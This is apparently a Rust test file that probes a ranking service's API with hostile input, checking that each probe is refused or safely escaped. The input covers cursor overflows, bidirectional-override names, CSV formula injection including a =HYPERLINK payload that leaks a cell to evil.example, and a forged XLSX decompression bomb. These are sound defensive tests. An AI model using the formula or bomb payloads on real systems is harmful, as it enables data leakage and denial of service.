//! Security probes with hostile input (issue 13): cursors, searches, names, precisions, tables
//! and spreadsheets that used to crash a request, answer 500, write unsafe text or exhaust
//! memory. Each answers `BAD_USER_INPUT` now, or is written safely.

use base64::Engine;
use egov_tests::counts::row_counts;
use egov_tests::normalized::HEADER;
use egov_tests::writes::{call, refused, token, write};
use egov_tests::{TestDb, TestServer, on_both_databases};
use serde_json::{Value, json};
use service::access::Role;

fn code(response: &Value) -> &str {
    response["errors"][0]["extensions"]["code"]
        .as_str()
        .unwrap_or_else(|| panic!("no error code in {response:#}"))
}

/// Catches cursors past any listing: `after: "9223372036854775807"` overflowed the offset
/// (`+ 1`) and sea-query's conversion to a signed offset panicked, so the client got an empty
/// reply; `18446744073709551615` wrapped round to the first page in a release build.
async fn cursors_beyond_any_listing_are_bad_input(server: TestServer) {
    for cursor in ["9223372036854775807", "18446744073709551615"] {
        for query in [
            "query ($after: String) { ranking(year: 2020, tier: DISTRICT, after: $after) { totalCount } }",
            "query ($after: String) { agencies(after: $after) { totalCount } }",
            "query ($after: String) { compareYears(from: 2020, to: 2020, tier: DISTRICT, after: $after) { totalCount } }",
        ] {
            let response = server.post(query, json!({ "after": cursor })).await;
            assert_eq!(code(&response), "BAD_USER_INPUT", "{cursor}: {response:#}");
        }
    }
    // The last real position still pages.
    let data = server
        .data(
            r#"{ ranking(year: 2020, tier: DISTRICT, after: "7") { nodes { rank } } }"#,
            json!({}),
        )
        .await;
    assert_eq!(data["ranking"]["nodes"].as_array().unwrap().len(), 1);
}

/// Catches a 50 000-character `search` answering `INTERNAL_SERVER_ERROR` (SQLite refuses a
/// LIKE pattern that long).
async fn a_very_long_search_is_bad_input(server: TestServer) {
    let query = "query ($search: String) { agencies(search: $search) { totalCount } }";
    let response = server
        .post(query, json!({ "search": "nam đông ".repeat(5_556) }))
        .await;
    assert_eq!(code(&response), "BAD_USER_INPUT", "{response:#}");
    let found = server.data(query, json!({ "search": "nam dong" })).await;
    assert_eq!(found["agencies"]["totalCount"], json!(1));
}

/// Catches a 40 000-character agency name being stored (its XLSX export then failed with 500:
/// a cell holds 32 767) and a name with an invisible right-to-left override (U+202E) being
/// created without a word. Both are refused, by `upsertAgency` and by imports, with nothing
/// written.
async fn names_too_long_or_with_bidirectional_controls_are_refused(server: TestServer) {
    let editor = token(&server, "names", Role::Editor).await;
    let before = row_counts(server.db()).await;
    let spoofed = "UBND huyện A\u{202E}gnôĐ maN";
    for (name, aliases) in [
        ("Sở ".repeat(13_334), json!([])),
        (spoofed.to_owned(), json!([])),
        ("Sở Mới".to_owned(), json!(["Sở\u{2067}Cũ"])),
    ] {
        let (problems, _) = refused(
            &server,
            &editor,
            "upsertAgency",
            "agency { code }",
            json!({ "name": name, "tier": "PROVINCIAL", "aliases": aliases }),
            "BAD_USER_INPUT",
        )
        .await;
        assert_eq!(problems.len(), 1);
    }
    let csv = format!(
        "{HEADER}2021,district,1,{},100,0,100,90,,,\n2021,district,2,{spoofed},100,0,100,80,,,\n",
        "Xã ".repeat(13_334)
    );
    let (problems, body) = refused(
        &server,
        &editor,
        "importResults",
        "report { rowsRead }",
        json!({ "content": csv }),
        "BAD_USER_INPUT",
    )
    .await;
    assert_eq!(
        problems,
        [
            ("BAD_USER_INPUT".into(), Some(2), Some("agency".into())),
            ("BAD_USER_INPUT".into(), Some(3), Some("agency".into())),
        ],
        "{body:#}"
    );
    assert_eq!(row_counts(server.db()).await, before, "nothing was written");
    // A long but sane name is fine.
    write(
        &server,
        &editor,
        "upsertAgency",
        "agency { code }",
        json!({ "name": format!("Ban Quản lý {}", "dự án ".repeat(70)), "tier": "PROVINCIAL" }),
    )
    .await;
}

/// Catches `decimals: 27` and `28` answering null without an error (a `Decimal` holds 28
/// digits in all, so 85.36 fits at most 26 decimals), and a scheme printing rates at 28
/// decimals, whose every rate then read as null: an error says how many decimals can be given,
/// and such a scheme is refused.
async fn precisions_a_decimal_cannot_hold_are_errors_not_nulls(server: TestServer) {
    for field in [
        "ratePercent(decimals: 27)",
        "ratePercent(decimals: 28)",
        "convertedScore(decimals: 28)",
    ] {
        let response = server
            .post(
                &format!(
                    "{{ ranking(year: 2020, tier: DISTRICT, first: 1) {{ nodes {{ {field} }} }} }}"
                ),
                json!({}),
            )
            .await;
        assert_eq!(code(&response), "BAD_USER_INPUT", "{field}: {response:#}");
        let message = response["errors"][0]["message"].as_str().unwrap();
        assert!(message.contains("at most 26"), "{message}");
    }
    let summary = server
        .post(
            "{ yearSummary(year: 2020, tier: DISTRICT) { meanRatePercent(decimals: 28) } }",
            json!({}),
        )
        .await;
    assert_eq!(code(&summary), "BAD_USER_INPUT", "{summary:#}");
    let fits = server
        .data(
            "{ ranking(year: 2020, tier: DISTRICT, first: 1) { nodes { ratePercent(decimals: 26) } } }",
            json!({}),
        )
        .await;
    let rate = fits["ranking"]["nodes"][0]["ratePercent"].as_str().unwrap();
    assert_eq!(rate.split_once('.').unwrap().1.len(), 26, "{rate}");

    let admin = token(&server, "schemes", Role::Admin).await;
    refused(
        &server,
        &admin,
        "setScoringScheme",
        "scheme { year }",
        json!({ "year": 2020, "tier": "DISTRICT", "name": "x", "convertedRule": "NONE", "rateDecimals": 28 }),
        "BAD_USER_INPUT",
    )
    .await;
}

/// Catches a table as published whose header is printed twice (`Tổng điểm`, `Tổng điểm`):
/// the first column was used and the second silently ignored. The normalized CSV already
/// refused its duplicated headers.
async fn a_header_printed_twice_is_refused(server: TestServer) {
    let editor = token(&server, "tables", Role::Editor).await;
    let before = row_counts(server.db()).await;
    let table = "STT;Tên đơn vị;Tổng điểm;Tổng điểm\n1;Sở Tư pháp;90;10\n";
    let (problems, _) = refused(
        &server,
        &editor,
        "importResults",
        "report { rowsRead }",
        json!({ "content": table, "year": 2022, "tier": "PROVINCIAL" }),
        "BAD_USER_INPUT",
    )
    .await;
    assert_eq!(
        problems,
        [("BAD_USER_INPUT".into(), Some(1), Some("Tổng điểm".into()))]
    );
    assert_eq!(row_counts(server.db()).await, before);
}

/// Names a spreadsheet would run as formulas: `=HYPERLINK(...)` leaks the sheet's cells to
/// whoever the link names when a report generator opens the export.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
    "+Sở Cộng",
    "-Sở Trừ",
    "@SUM(1+1)",
];

/// Catches CSV exports writing such names verbatim: each is written with a leading `'` (as
/// OWASP advises), numbers are left as they are, and the export imports back as the same names
/// into another database.
async fn csv_exports_neutralise_formulas_and_still_import_back(server: TestServer) {
    let editor = token(&server, "formulas", Role::Editor).await;
    // Written with the csv crate: the names hold quotes and commas.
    let mut rows = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(HEADER.as_bytes().to_vec());
    for (points, name) in (87..=90).rev().zip(FORMULAS) {
        let points = points.to_string();
        rows.write_record([
            "2021", "district", "", name, "100", "0", "100", &points, "", "", "",
        ])
        .unwrap();
    }
    let csv = String::from_utf8(rows.into_inner().unwrap()).unwrap();
    write(
        &server,
        &editor,
        "importResults",
        "report { rowsRead }",
        json!({ "content": csv }),
    )
    .await;
    let response = server.get("/export/2021/district.csv").await;
    assert_eq!(response.status(), 200);
    let exported = response.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(&exported[..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let names: Vec<&str> = rows.iter().map(|row| &row[1]).collect();
    let quoted: Vec<String> = FORMULAS.iter().map(|name| format!("'{name}")).collect();
    assert_eq!(names, quoted, "every formula is written as text");
    for row in &rows {
        for (column, cell) in row.iter().enumerate().filter(|(c, _)| *c != 1) {
            assert!(
                !cell.starts_with('\''),
                "column {column}: `{cell}` is a value"
            );
        }
    }

    // Imported into another database, the export gives the names it was made from.
    let Some(other_db) = TestDb::prepared(server.backend).await else {
        return;
    };
    let other = TestServer::start(&other_db).await;
    let other_editor = token(&other, "formulas", Role::Editor).await;
    let report = write(
        &other,
        &other_editor,
        "importResults",
        "report { agenciesCreated }",
        json!({
            "content": base64::engine::general_purpose::STANDARD.encode(&exported),
            "contentEncoding": "BASE64",
            "year": 2021,
            "tier": "DISTRICT",
        }),
    )
    .await;
    let mut created: Vec<String> =
        serde_json::from_value(report["report"]["agenciesCreated"].clone()).unwrap();
    created.sort();
    let mut expected: Vec<String> = FORMULAS.iter().map(ToString::to_string).collect();
    expected.sort();
    assert_eq!(created, expected);
    drop(other);
    other_db.remove().await;
}

/// A workbook of one sheet holding one string, whose shared-strings part declares (in its
/// local header and in the central directory) that it unpacks to `declared` bytes.
fn xlsx_declaring_shared_strings(declared: u32) -> Vec<u8> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    workbook
        .add_worksheet()
        .write_string(0, 0, "Tên đơn vị")
        .unwrap();
    let mut bytes = workbook.save_to_buffer().unwrap();
    let name = b"xl/sharedStrings.xml";
    // (signature, offset of the uncompressed size, of the name's length, of the name)
    for (signature, size_at, length_at, name_at) in
        [(b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)]
    {
        let header = (0..bytes.len() - name_at)
            .find(|&at| {
                bytes[at..].starts_with(signature)
                    && usize::from(u16::from_le_bytes([
                        bytes[at + length_at],
                        bytes[at + length_at + 1],
                    ])) == name.len()
                    && bytes[at + name_at..].starts_with(name)
            })
            .expect("the shared strings' headers");
        bytes[header + size_at..header + size_at + 4].copy_from_slice(&declared.to_le_bytes());
    }
    bytes
}

/// Catches an XLSX whose shared strings unpack to 1 GiB being read whole by calamine, on the
/// async runtime (26 s and 5.5 GB for a 1 MB file): the sizes the archive declares are checked
/// before calamine opens it. (`tests/bench/security-replay.sh` sends a real 1 GiB bomb.)
async fn a_spreadsheet_part_unpacking_to_a_gibibyte_is_refused(server: TestServer) {
    let editor = token(&server, "bombs", Role::Editor).await;
    let bomb = xlsx_declaring_shared_strings(1 << 30);
    let (status, body) = call(
        &server,
        Some(&editor),
        "importResults",
        "report { rowsRead }",
        json!({
            "content": base64::engine::general_purpose::STANDARD.encode(&bomb),
            "contentEncoding": "BASE64",
            "year": 2022,
            "tier": "PROVINCIAL",
            "dryRun": true,
        }),
    )
    .await;
    assert_eq!(status, 200);
    // Refused for its input: in the payload, not as a top-level error.
    assert!(body.get("errors").is_none(), "{body:#}");
    let refusal = &body["data"]["importResults"]["errors"][0];
    assert_eq!(refusal["code"], json!("BAD_USER_INPUT"), "{body:#}");
    let message = refusal["message"].as_str().unwrap();
    assert!(message.contains("xl/sharedStrings.xml"), "{message}");
    // What makes the declared sizes enough: a part that declares less than it holds cannot be
    // read past its declaration (the `zip` crate refuses), so lying low gains nothing.
    let lying = xlsx_declaring_shared_strings(8);
    assert!(service::import::spreadsheet::first_sheet_as_csv(&lying).is_err());
}

on_both_databases!(
    cursors_beyond_any_listing_are_bad_input,
    a_very_long_search_is_bad_input,
    names_too_long_or_with_bidirectional_controls_are_refused,
    precisions_a_decimal_cannot_hold_are_errors_not_nulls,
    a_header_printed_twice_is_refused,
    csv_exports_neutralise_formulas_and_still_import_back,
    a_spreadsheet_part_unpacking_to_a_gibibyte_is_refused,
);
